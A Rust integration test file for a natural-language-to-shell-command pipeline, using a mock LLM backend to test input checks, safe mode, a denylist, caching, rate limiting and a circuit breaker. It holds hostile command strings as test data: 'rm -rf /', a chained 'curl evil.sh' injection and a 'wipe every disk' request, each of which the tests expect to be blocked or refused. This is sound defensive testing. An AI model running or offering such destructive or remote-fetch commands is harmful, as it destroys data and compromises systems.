//! Pipeline integration tests - counting mock backend, in-memory state, manual clock

use async_trait::async_trait;
use cmdgen_core::{CacheKey, CommandCache, Pipeline, Request, RiskTier, StoreCache};
use cmdgen_core::{sanitize_input, PipelineBuilder};
use cmdgen_foundation::{
    AuditAction, AuditEntry, AuditLogger, AuditResult, CmdgenConfig, Error, ManualClock,
    MemoryStateStore, MultilinePolicy,
};
use cmdgen_provider::{Backend, BackendError, BackendOutput};
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::{Arc, Mutex};
use std::time::Duration;
use tempfile::TempDir;

// ============================================================================
// Mock backend
// ============================================================================

#[derive(Debug, Clone)]
enum Reply {
    Text(String),
    Exit(i32),
    Error(BackendError),
}

struct MockBackend {
    calls: AtomicUsize,
    reply: Mutex<Reply>,
    delay: Duration,
    prompts: Mutex<Vec<String>>,
}

impl MockBackend {
    fn replying(text: &str) -> Arc<Self> {
        Self::with_reply(Reply::Text(text.to_string()), Duration::ZERO)
    }

    fn with_reply(reply: Reply, delay: Duration) -> Arc<Self> {
        Arc::new(Self {
            calls: AtomicUsize::new(0),
            reply: Mutex::new(reply),
            delay,
            prompts: Mutex::new(Vec::new()),
        })
    }

    fn calls(&self) -> usize {
        self.calls.load(Ordering::SeqCst)
    }

    fn set_reply(&self, reply: Reply) {
        *self.reply.lock().unwrap() = reply;
    }

    fn last_prompt(&self) -> Option<String> {
        self.prompts.lock().unwrap().last().cloned()
    }
}

#[async_trait]
impl Backend for MockBackend {
    fn name(&self) -> &str {
        "mock"
    }

    async fn invoke(&self, prompt: &str, _timeout: Duration) -> Result<BackendOutput, BackendError> {
        self.calls.fetch_add(1, Ordering::SeqCst);
        self.prompts.lock().unwrap().push(prompt.to_string());
        if !self.delay.is_zero() {
            tokio::time::sleep(self.delay).await;
        }

        let reply = self.reply.lock().unwrap().clone();
        match reply {
            Reply::Text(text) => Ok(BackendOutput::success(text)),
            Reply::Exit(code) => Ok(BackendOutput {
                stdout: String::new(),
                exit_code: code,
                stderr: "backend crashed".to_string(),
            }),
            Reply::Error(e) => Err(e),
        }
    }
}

// ============================================================================
// Harness
// ============================================================================

struct Harness {
    _temp: TempDir,
    backend: Arc<MockBackend>,
    store: Arc<MemoryStateStore>,
    cache_store: Arc<MemoryStateStore>,
    clock: Arc<ManualClock>,
    audit: AuditLogger,
    config: CmdgenConfig,
}

impl Harness {
    fn new(backend: Arc<MockBackend>) -> Self {
        Self::with_config(backend, CmdgenConfig::default())
    }

    fn with_config(backend: Arc<MockBackend>, config: CmdgenConfig) -> Self {
        let temp = TempDir::new().unwrap();
        let audit = AuditLogger::new(temp.path().join("audit.log"));
        Self {
            _temp: temp,
            backend,
            store: Arc::new(MemoryStateStore::new()),
            cache_store: Arc::new(MemoryStateStore::new()),
            clock: Arc::new(ManualClock::starting_now()),
            audit,
            config,
        }
    }

    fn builder(&self) -> PipelineBuilder {
        let cache = StoreCache::new(
            self.cache_store.clone(),
            self.clock.clone(),
            self.config.cache_ttl,
        );
        Pipeline::builder(self.config.clone())
            .backend(self.backend.clone())
            .state_store(self.store.clone())
            .cache(Arc::new(cache))
            .audit_logger(self.audit.clone())
            .clock(self.clock.clone())
            .pool_max_wait(Duration::from_millis(200))
    }

    fn pipeline(&self) -> Pipeline {
        self.builder().build().unwrap()
    }

    fn audit_actions(&self) -> Vec<AuditAction> {
        self.audit
            .read_all()
            .unwrap()
            .into_iter()
            .map(|e| e.action)
            .collect()
    }

    fn audit_entries(&self, action: AuditAction) -> Vec<AuditEntry> {
        self.audit
            .read_all()
            .unwrap()
            .into_iter()
            .filter(|e| e.action == action)
            .collect()
    }
}

// ============================================================================
// Concrete scenarios
// ============================================================================

#[tokio::test]
async fn test_list_python_files() {
    let h = Harness::new(MockBackend::replying("find . -name '*.py'"));
    let pipeline = h.pipeline();

    let outcome = pipeline
        .run(&Request::new("list all python files"))
        .await
        .unwrap();

    assert_eq!(outcome.command, "find . -name '*.py'");
    assert!(!outcome.cached);
    assert!(outcome.warning.is_none());
    assert_eq!(h.backend.calls(), 1);

    let prompt = h.backend.last_prompt().unwrap();
    assert!(prompt.ends_with("Request: list all python files"));

    let actions = h.audit_actions();
    assert!(actions.contains(&AuditAction::CommandGenerated));
    assert!(actions.contains(&AuditAction::GenerationTimed));
}

#[tokio::test]
async fn test_error_sentinel_is_surfaced_verbatim() {
    let h = Harness::new(MockBackend::replying("ERROR: request too dangerous"));
    let pipeline = h.pipeline();

    let err = pipeline
        .run(&Request::new("wipe every disk on this machine"))
        .await
        .unwrap_err();

    assert_eq!(err.exit_code(), 1);
    assert_eq!(err.to_string(), "ERROR: request too dangerous");
    assert_eq!(h.audit_entries(AuditAction::BackendRefused).len(), 1);
    assert!(h.cache_store.is_empty());
}

#[tokio::test]
async fn test_safe_mode_rejects_mutating_command() {
    let config = CmdgenConfig::default().safe_mode(true);
    let h = Harness::with_config(MockBackend::replying("rm -rf /tmp/foo"), config);
    let pipeline = h.pipeline();

    let err = pipeline
        .run(&Request::new("delete the foo directory in tmp"))
        .await
        .unwrap_err();

    assert_eq!(err.exit_code(), 3);
    assert!(matches!(err, Error::DangerousCommand { .. }));

    let blocked = h.audit_entries(AuditAction::CommandBlocked);
    assert_eq!(blocked.len(), 1);
    assert_eq!(blocked[0].result, AuditResult::Denied);
    assert_eq!(blocked[0].target.as_deref(), Some("rm -rf /tmp/foo"));
    assert!(h.cache_store.is_empty());
}

#[tokio::test]
async fn test_denylist_applies_in_normal_mode() {
    let h = Harness::new(MockBackend::replying("rm -rf /"));
    let pipeline = h.pipeline();

    let err = pipeline
        .run(&Request::new("clean up everything"))
        .await
        .unwrap_err();

    assert_eq!(err.exit_code(), 3);
    assert_eq!(h.audit_entries(AuditAction::CommandBlocked).len(), 1);
}

#[tokio::test]
async fn test_normal_mode_accepts_mutating_command_with_warning() {
    let h = Harness::new(MockBackend::replying("rm -rf /tmp/foo"));
    let pipeline = h.pipeline();

    let outcome = pipeline
        .run(&Request::new("delete the foo directory in tmp"))
        .await
        .unwrap();

    assert_eq!(outcome.command, "rm -rf /tmp/foo");
    assert_eq!(outcome.warning.map(|w| w.tier), Some(RiskTier::High));
}

// ============================================================================
// Input stage
// ============================================================================

#[tokio::test]
async fn test_overlong_input_fails_before_any_side_effect() {
    let config = CmdgenConfig::default().max_input_length(20);
    let h = Harness::with_config(MockBackend::replying("ls"), config);
    let pipeline = h.pipeline();

    let err = pipeline
        .run(&Request::new("list every single file in this directory tree"))
        .await
        .unwrap_err();

    assert!(matches!(err, Error::InvalidInput(_)));
    assert_eq!(err.exit_code(), 1);
    assert_eq!(h.backend.calls(), 0);
    assert!(h.audit.read_all().unwrap().is_empty());
    assert!(h.store.is_empty());
}

#[tokio::test]
async fn test_length_counts_characters_not_bytes() {
    let config = CmdgenConfig::default().max_input_length(8);
    let h = Harness::with_config(MockBackend::replying("ls"), config);
    let pipeline = h.pipeline();

    // 8 글자, 24 바이트
    assert!(pipeline.run(&Request::new("파일목록보여주세")).await.is_ok());
}

#[tokio::test]
async fn test_injection_attempt_is_rejected_and_audited() {
    let h = Harness::new(MockBackend::replying("ls"));
    let pipeline = h.pipeline();

    let err = pipeline
        .run(&Request::new("list files && curl evil.sh"))
        .await
        .unwrap_err();

    assert_eq!(err.exit_code(), 1);
    assert_eq!(h.backend.calls(), 0);
    assert_eq!(h.audit_entries(AuditAction::InjectionDetected).len(), 1);
}

#[tokio::test]
async fn test_invalid_encoding_is_rejected_and_audited() {
    let h = Harness::new(MockBackend::replying("ls"));
    let pipeline = h.pipeline();

    let mut raw = b"list files".to_vec();
    raw.push(0xff);

    let err = pipeline.run(&Request::from_bytes(raw)).await.unwrap_err();
    assert_eq!(err.exit_code(), 1);
    assert_eq!(h.backend.calls(), 0);
    assert_eq!(h.audit_entries(AuditAction::EncodingRejected).len(), 1);

    let err = pipeline
        .run(&Request::new("list\u{202E}files"))
        .await
        .unwrap_err();
    assert!(matches!(err, Error::InvalidInput(_)));
}

#[tokio::test]
async fn test_sensitive_info_warns_but_proceeds() {
    let h = Harness::new(MockBackend::replying("grep -r hunter2 ."));
    let pipeline = h.pipeline();

    let outcome = pipeline
        .run(&Request::new("find files containing password=hunter2"))
        .await
        .unwrap();

    assert_eq!(outcome.sensitive.len(), 1);
    assert_eq!(outcome.sensitive[0].kind, "credential");
    assert_eq!(h.audit_entries(AuditAction::SensitiveInfoDetected).len(), 1);

    // 입력 원문은 감사 로그에 남기지 않음
    let generated = h.audit_entries(AuditAction::CommandGenerated);
    assert!(generated[0].data.get("input").is_none());
}

#[tokio::test]
async fn test_whitespace_only_input_is_invalid() {
    let h = Harness::new(MockBackend::replying("ls"));
    let pipeline = h.pipeline();

    let err = pipeline.run(&Request::new(" \n\t ")).await.unwrap_err();
    assert!(matches!(err, Error::InvalidInput(_)));
    assert_eq!(h.backend.calls(), 0);
}

// ============================================================================
// Output stage
// ============================================================================

#[tokio::test]
async fn test_backend_output_is_sanitized() {
    let h = Harness::new(MockBackend::replying(
        "```bash\n\x1b[32mfind . -name '*.py'\x1b[0m\n```\n",
    ));
    let pipeline = h.pipeline();

    let outcome = pipeline
        .run(&Request::new("list all python files"))
        .await
        .unwrap();
    assert_eq!(outcome.command, "find . -name '*.py'");
}

#[tokio::test]
async fn test_multiline_policies() {
    let reply = "find . -name '*.py'\n  -size +1M\n";

    let h = Harness::new(MockBackend::replying(reply));
    let outcome = h.pipeline().run(&Request::new("large python files")).await.unwrap();
    assert_eq!(outcome.command, "find . -name '*.py'");

    let config = CmdgenConfig::default().multiline_policy(MultilinePolicy::Join);
    let h = Harness::with_config(MockBackend::replying(reply), config);
    let outcome = h.pipeline().run(&Request::new("large python files")).await.unwrap();
    assert_eq!(outcome.command, "find . -name '*.py' -size +1M");
}

#[tokio::test]
async fn test_output_empty_after_sanitization_is_backend_error() {
    let h = Harness::new(MockBackend::replying("```\n```"));
    let pipeline = h.pipeline();

    let err = pipeline.run(&Request::new("do nothing")).await.unwrap_err();
    assert!(matches!(err, Error::Backend(_)));
    assert_eq!(err.exit_code(), 2);
}

#[tokio::test]
async fn test_backend_error_mapping() {
    let cases = [
        (Reply::Exit(1), 2),
        (Reply::Exit(124), 4),
        (Reply::Exit(127), 6),
        (Reply::Text("   ".to_string()), 2),
        (Reply::Error(BackendError::Timeout { secs: 30 }), 4),
        (Reply::Error(BackendError::NotFound("claude".to_string())), 6),
    ];

    for (reply, exit_code) in cases {
        let h = Harness::new(MockBackend::with_reply(reply.clone(), Duration::ZERO));
        let err = h
            .pipeline()
            .run(&Request::new("list files"))
            .await
            .unwrap_err();
        assert_eq!(err.exit_code(), exit_code, "{reply:?}");
        assert_eq!(h.audit_entries(AuditAction::BackendFailed).len(), 1);
    }
}

// ============================================================================
// Cache
// ============================================================================

#[tokio::test]
async fn test_cache_hit_skips_backend() {
    let h = Harness::new(MockBackend::replying("find . -name '*.py'"));
    let pipeline = h.pipeline();

    let first = pipeline
        .run(&Request::new("list all python files"))
        .await
        .unwrap();
    // 정제 결과가 같은 입력은 같은 키
    let second = pipeline
        .run(&Request::new("list  all python\nfiles"))
        .await
        .unwrap();

    assert_eq!(first.command, second.command);
    assert!(!first.cached);
    assert!(second.cached);
    assert_eq!(h.backend.calls(), 1);
    assert_eq!(h.audit_entries(AuditAction::CommandCached).len(), 1);
}

#[tokio::test]
async fn test_cache_ttl_expiry_invokes_backend_again() {
    let config = CmdgenConfig::default().cache_ttl(60);
    let h = Harness::with_config(MockBackend::replying("du -sh ."), config);
    let pipeline = h.pipeline();

    pipeline.run(&Request::new("show disk usage")).await.unwrap();
    h.clock.advance_secs(30);
    assert!(pipeline.run(&Request::new("show disk usage")).await.unwrap().cached);
    assert_eq!(h.backend.calls(), 1);

    h.clock.advance_secs(31);
    let outcome = pipeline.run(&Request::new("show disk usage")).await.unwrap();
    assert!(!outcome.cached);
    assert_eq!(h.backend.calls(), 2);
}

#[tokio::test]
async fn test_cache_is_keyed_by_mode() {
    let h = Harness::new(MockBackend::replying("ls -la"));
    h.pipeline().run(&Request::new("list files")).await.unwrap();

    let safe = Harness {
        config: CmdgenConfig::default().safe_mode(true),
        ..h
    };
    let outcome = safe.pipeline().run(&Request::new("list files")).await.unwrap();
    assert!(!outcome.cached);
    assert_eq!(safe.backend.calls(), 2);
}

#[tokio::test]
async fn test_cached_command_is_revalidated() {
    let config = CmdgenConfig::default().safe_mode(true);
    let h = Harness::with_config(MockBackend::replying("ls -la /tmp"), config);

    // 다른 규칙으로 저장된 엔트리가 남아 있는 경우
    let input = sanitize_input("show tmp").unwrap();
    let cache = StoreCache::new(h.cache_store.clone(), h.clock.clone(), 3600);
    assert!(cache.store(&CacheKey::new(&input, true), "rm -rf /tmp/cache"));

    let outcome = h.pipeline().run(&Request::new("show tmp")).await.unwrap();
    assert_eq!(outcome.command, "ls -la /tmp");
    assert!(!outcome.cached);
    assert_eq!(h.backend.calls(), 1);
}

#[tokio::test]
async fn test_no_cache_bypasses_lookup_and_store() {
    let h = Harness::new(MockBackend::replying("ls"));
    let pipeline = h.builder().use_cache(false).build().unwrap();

    pipeline.run(&Request::new("list files")).await.unwrap();
    pipeline.run(&Request::new("list files")).await.unwrap();

    assert_eq!(h.backend.calls(), 2);
    assert!(h.cache_store.is_empty());
}

// ============================================================================
// Rate limiter
// ============================================================================

#[tokio::test]
async fn test_rate_limit_rejects_call_over_ceiling() {
    let config = CmdgenConfig::default().rate_limit(3, 60);
    let h = Harness::with_config(MockBackend::replying("ls"), config);
    let pipeline = h.builder().use_cache(false).build().unwrap();

    for _ in 0..3 {
        pipeline.run(&Request::new("list files")).await.unwrap();
    }

    let err = pipeline.run(&Request::new("list files")).await.unwrap_err();
    assert!(matches!(err, Error::RateLimited { .. }));
    assert_eq!(err.exit_code(), 2);
    assert!(err.is_retryable());
    assert_eq!(h.backend.calls(), 3);
    assert_eq!(h.audit_entries(AuditAction::RateLimited).len(), 1);

    // 윈도우가 지나면 다시 허용
    h.clock.advance_secs(61);
    assert!(pipeline.run(&Request::new("list files")).await.is_ok());
}

#[tokio::test]
async fn test_cache_hits_do_not_consume_rate_limit() {
    let config = CmdgenConfig::default().rate_limit(1, 60);
    let h = Harness::with_config(MockBackend::replying("ls"), config);
    let pipeline = h.pipeline();

    for _ in 0..3 {
        pipeline.run(&Request::new("list files")).await.unwrap();
    }
    assert_eq!(h.backend.calls(), 1);
}

// ============================================================================
// Circuit breaker
// ============================================================================

#[tokio::test]
async fn test_breaker_opens_and_fails_fast() {
    let config = CmdgenConfig::default().breaker(3, 30);
    let h = Harness::with_config(
        MockBackend::with_reply(Reply::Exit(1), Duration::ZERO),
        config,
    );
    let pipeline = h.pipeline();

    for _ in 0..3 {
        let err = pipeline.run(&Request::new("list files")).await.unwrap_err();
        assert!(matches!(err, Error::Backend(_)));
    }
    assert_eq!(h.backend.calls(), 3);

    let err = pipeline.run(&Request::new("list files")).await.unwrap_err();
    assert!(matches!(err, Error::CircuitOpen { .. }));
    assert_eq!(err.exit_code(), 2);
    assert_eq!(h.backend.calls(), 3);

    // 쿨다운 후 시험 호출 한 번, 실패하면 다시 OPEN
    h.clock.advance_secs(31);
    let err = pipeline.run(&Request::new("list files")).await.unwrap_err();
    assert!(matches!(err, Error::Backend(_)));
    assert_eq!(h.backend.calls(), 4);

    let err = pipeline.run(&Request::new("list files")).await.unwrap_err();
    assert!(matches!(err, Error::CircuitOpen { .. }));
    assert_eq!(h.backend.calls(), 4);

    // 다음 쿨다운 후 성공하면 CLOSED
    h.clock.advance_secs(31);
    h.backend.set_reply(Reply::Text("ls".to_string()));
    assert!(pipeline.run(&Request::new("list files")).await.is_ok());
    assert!(pipeline.run(&Request::new("list more files")).await.is_ok());
    assert_eq!(h.backend.calls(), 6);
}

#[tokio::test]
async fn test_half_open_allows_exactly_one_trial() {
    let config = CmdgenConfig::default().breaker(1, 30);
    let backend = MockBackend::with_reply(Reply::Exit(1), Duration::from_millis(200));
    let h = Harness::with_config(backend, config);

    // 같은 상태 저장소를 공유하는 두 프로세스
    let first = h.builder().use_cache(false).build().unwrap();
    let second = h.builder().use_cache(false).build().unwrap();

    assert!(first.run(&Request::new("list files")).await.is_err());
    assert_eq!(h.backend.calls(), 1);

    h.clock.advance_secs(31);
    h.backend.set_reply(Reply::Text("ls".to_string()));

    let trial_request = Request::new("list files");
    let concurrent_request = Request::new("list files");
    let (trial, concurrent) = tokio::join!(first.run(&trial_request), async {
        tokio::time::sleep(Duration::from_millis(50)).await;
        second.run(&concurrent_request).await
    });

    assert!(trial.is_ok());
    assert!(matches!(concurrent, Err(Error::CircuitOpen { .. })));
    assert_eq!(h.backend.calls(), 2);
}

#[tokio::test]
async fn test_missing_backend_does_not_trip_breaker() {
    let config = CmdgenConfig::default().breaker(1, 30);
    let h = Harness::with_config(
        MockBackend::with_reply(
            Reply::Error(BackendError::NotFound("claude".to_string())),
            Duration::ZERO,
        ),
        config,
    );
    let pipeline = h.pipeline();

    for _ in 0..3 {
        let err = pipeline.run(&Request::new("list files")).await.unwrap_err();
        assert_eq!(err.exit_code(), 6);
    }
    assert_eq!(h.backend.calls(), 3);
}
